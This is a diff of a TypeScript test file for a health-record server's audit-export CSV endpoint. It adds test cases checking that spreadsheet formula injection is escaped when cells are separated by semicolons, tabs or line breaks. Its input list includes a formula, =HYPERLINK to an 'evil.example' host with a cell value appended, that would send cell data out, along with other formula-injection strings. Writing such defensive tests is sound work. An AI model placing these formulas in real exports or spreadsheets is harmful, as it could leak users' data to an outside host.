@@ -8,7 +8,18 @@ let house: House
 const admin = grantOf('system/*.cruds', { patients: 'all' })
 const ofA = grantOf('patient/*.rs', { patient: 'a' })
 /** What somebody calls themselves. */
-const formulas = ['=HYPERLINK("http://evil.example?"&A1)', '+1', '-1', '@SUM(A1)', '\t=1', ' =1', '\uff1d1', '\u200b=1']
+const formulas = ['=HYPERLINK("http://evil.example?"&A1)', '+1', '-1', '@SUM(A1)', ' =1', '\uff1d1', '\u200b=1']
+/** Where semicolons, tabs or lines part cells, and quotes do not hold them together. */
+const partedFormulas = {
+  '\t=1': "'\t'=1",
+  'x;=1;+2': "x;'=1;'+2",
+  'x; @SUM(A1)': "x;' @SUM(A1)",
+  'x;"=1': 'x;\'"=1',
+  'x\t\u200b-1': "x\t'\u200b-1",
+  'x\r\n=1': "x\r\n'=1",
+  'x\u2028\uff1d1': "x\u2028'\uff1d1",
+  'x - y; z-1, =1': 'x - y; z-1, =1',
+}
 
 async function written(method: string, path: string, body?: object, grant = admin) {
   const answer = await house.ask(method, path, { grant, ...(body === undefined ? {} : { body }) })
@@ -25,6 +36,17 @@ async function rowsOf(path: string, asked: Asked): Promise<readonly Row[]> {
   expect(headers['content-type']).toBe('text/csv; charset=utf-8; header=present')
   expect(text.endsWith('\r\n')).toBe(true)
   return parse(text, { columns: true, record_delimiter: '\r\n' })
+}
+
+/** What a device says. */
+const filedEvent = {
+  resourceType: 'AuditEvent',
+  type: { code: 'rest' },
+  recorded: '2020-01-01T00:00:00Z',
+  outcome: '0',
+  agent: [{ name: 'Device', requestor: true }],
+  source: { observer: { display: 'Kinhold' } },
+  entity: [{ what: { reference: 'Patient/a' } }],
 }
 
 const audit = (patient: string, query = '') => `/Patient/${patient}/$audit-export${query}`
@@ -102,17 +124,24 @@ it('is no place for formulas – https://owasp.org/www-community/attacks/CSV_Inj
   expect(rows.map(({ description }) => description)).toContain('a "quoted", word\r\nand line')
 })
 
+it('is none where cells are parted otherwise', async () => {
+  const names = Object.keys(partedFormulas)
+  for (const detail of names) house.record.audit({ action: 'export', outcome: 'success', patient: 'a', detail })
+  const rows = await rowsOf(audit('a'), { grant: admin })
+  const told = rows.filter(({ type }) => type === 'export').map(({ description }) => description)
+  expect(told).toEqual(expect.arrayContaining(Object.values(partedFormulas)))
+})
+
+it('goes through each sign of a long name once', async () => {
+  const [tabs, semicolons] = ['\t', ';'].map(sign => sign.repeat(300_000) + 'x')
+  const agent = [tabs, semicolons, '-'.repeat(300_000)].map(name => ({ name, requestor: true }))
+  await written('POST', '/AuditEvent', { ...filedEvent, agent })
+  const rows = await rowsOf(audit('a'), { grant: admin })
+  expect(rows.at(-1)?.agent).toHaveLength(900_004)
+})
+
 it('says of what others have filed that they have, behind all else', async () => {
-  const event = {
-    resourceType: 'AuditEvent',
-    type: { code: 'rest' },
-    recorded: '2020-01-01T00:00:00Z',
-    outcome: '0',
-    agent: [{ name: 'Device', requestor: true }],
-    source: { observer: { display: 'Kinhold' } },
-    entity: [{ what: { reference: 'Patient/a' } }],
-  }
-  await written('POST', '/AuditEvent', event)
+  await written('POST', '/AuditEvent', filedEvent)
   await written('POST', '/Observation', weightOf('a', 70))
   const rows = await rowsOf(audit('a'), { grant: admin })
   expect(rows.map(({ origin }) => origin).lastIndexOf('server')).toBe(rows.length - 2)
